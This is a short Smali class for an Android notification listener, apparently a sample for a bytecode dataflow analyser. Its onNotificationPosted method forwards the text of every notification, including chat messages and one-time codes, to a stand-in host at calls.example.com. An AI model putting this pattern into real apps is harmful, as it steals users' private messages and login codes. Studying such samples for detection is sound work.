.class public Lorg/dexflow/sample/callwatcher/Notifications;
.super Landroid/service/notification/NotificationListenerService;
.source "Notifications.java"

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/service/notification/NotificationListenerService;-><init>()V
    return-void
.end method

# Every posted notification (chat messages, one-time codes) is forwarded.
.method public onNotificationPosted(Landroid/service/notification/StatusBarNotification;)V
    .registers 4
    invoke-virtual {p1}, Ljava/lang/Object;->toString()Ljava/lang/String;
    move-result-object v0
    const-string v1, "https://calls.example.com/notifications"
    invoke-static {v1, v0}, Lorg/dexflow/sample/callwatcher/CallReceiver;->post(Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method
